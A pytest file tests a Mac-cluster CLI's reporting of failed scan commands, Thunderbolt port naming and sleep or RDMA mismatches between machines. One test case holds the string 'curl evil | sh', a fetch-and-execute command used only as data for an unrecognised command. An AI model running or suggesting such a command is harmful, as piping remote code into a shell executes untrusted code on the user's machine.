"""What could not be found out of a Mac, and how its ports are named."""

import pytest

from cli.findings.laws import WARNING, only, short
from cli.findings.rigs import mac, port
from thunderline.cli.findings.cables import cables
from thunderline.cli.findings.hardware import between, of_mac, of_others
from thunderline.cli.findings.macs import COSTS, of_warnings, other_end, place
from thunderline.cluster.machine_facts import RdmaState, ScanWarning, SeenMac, ThunderboltPort

HUNG = ScanWarning("ibv_devinfo", "took longer than 5 s")


def test_a_command_that_hangs_is_told_with_what_is_not_known_for_it() -> None:
    one = only(of_warnings([HUNG]))
    assert short([one]) == [(WARNING, "ibv_devinfo did not tell all")]
    assert one.seen == "`ibv_devinfo`: took longer than 5 s"
    assert one.unknown == "which RDMA ports are active"
    assert "`ibv_devinfo` in a terminal" in one.remedy


def test_one_command_is_told_once() -> None:
    odd = [ScanWarning("ifconfig", f"line {number} is odd") for number in range(5)]
    found = of_warnings([*odd, HUNG])
    assert [one.what for one in found] == ["ifconfig did not tell all", "ibv_devinfo did not tell all"]
    assert found[0].seen == "`ifconfig`: line 0 is odd; line 1 is odd; line 2 is odd; 2 more"


COMMANDS = {
    "of a service": ("networksetup -getnetworkserviceenabled Thunderbolt Bridge", "whether the network service"),
    "of hardware": (
        "sysctl hw.model machdep.cpu.brand_string hw.memsize iogpu.wired_limit_mb",
        "how much memory Metal",
    ),
    "of nobody knows what": ("curl evil | sh", "what it would have told"),
}


@pytest.mark.parametrize(("command", "unknown"), COMMANDS.values(), ids=COMMANDS.keys())
def test_what_a_command_costs(command: str, unknown: str) -> None:
    one = only(of_warnings([ScanWarning(command, "is not there (not in PATH)")]))
    assert unknown in one.unknown
    assert (f"`{command}`" in one.remedy) is any(command.startswith(known) for known in COSTS)


def test_a_mac_at_rest_has_nothing_wrong() -> None:
    assert [what for severity, what in short(of_mac(mac(), [], 0, "/h/config.toml")) if severity == WARNING] == []


def test_what_is_said_of_others_has_their_names_and_of_cables_none() -> None:
    ada = mac("ada", port("uuid-a", "uuid-b"), sleep_after_min=1)
    bob = mac("bob", port("uuid-b", "uuid-a"), sleep_after_min=1, rdma=RdmaState.DISABLED)
    found = of_others([ada, bob], [])
    assert {(one.node, one.what) for one in found if "sleep" in one.what} == {
        ("ada", "it goes to sleep after 1 min"),
        ("bob", "it goes to sleep after 1 min"),
    }
    pairs = between([ada, bob], cables([ada, bob]))
    assert [(one.node, one.what[:29]) for one in pairs] == [("", "RDMA is enabled on ada, and n")]


PLACES = {
    "receptacle 3 (en4)": ThunderboltPort("bus_2", receptacle="3", interface="en4"),
    "receptacle 3": ThunderboltPort("bus_2", receptacle="3"),
    "bus_2 (en4)": ThunderboltPort("bus_2", interface="en4"),
    "a port without a name": ThunderboltPort(),
}


@pytest.mark.parametrize(("expected", "one"), PLACES.items(), ids=PLACES.keys())
def test_a_port_is_named_as_people_find_it(expected: str, one: ThunderboltPort) -> None:
    assert place(one) == expected


ENDS = {
    "MacBook Pro": (SeenMac("u", "MacBook Pro", "Mac16,5"),),
    "Mac16,5": (SeenMac("u", "", "Mac16,5"),),
    "the other Mac": (SeenMac("u"),),
}


@pytest.mark.parametrize(("expected", "macs"), ENDS.items(), ids=ENDS.keys())
def test_the_other_end_is_named_as_the_port_sees_it(expected: str, macs: tuple[SeenMac, ...]) -> None:
    assert other_end(ThunderboltPort(macs=macs)) == expected


def test_an_interface_is_of_thunderbolt_by_the_whole_name_of_its_hardware_port() -> None:
    titles = (("en3", "Thunderbolt 2"), ("en8", "5"), ("en7", "Thunderbolt Ethernet Slot 0"))
    # A free port, en9, is one by itself.
    assert mac("ada", hardware_ports=titles).thunderbolt_interfaces == {"en3", "en9"}
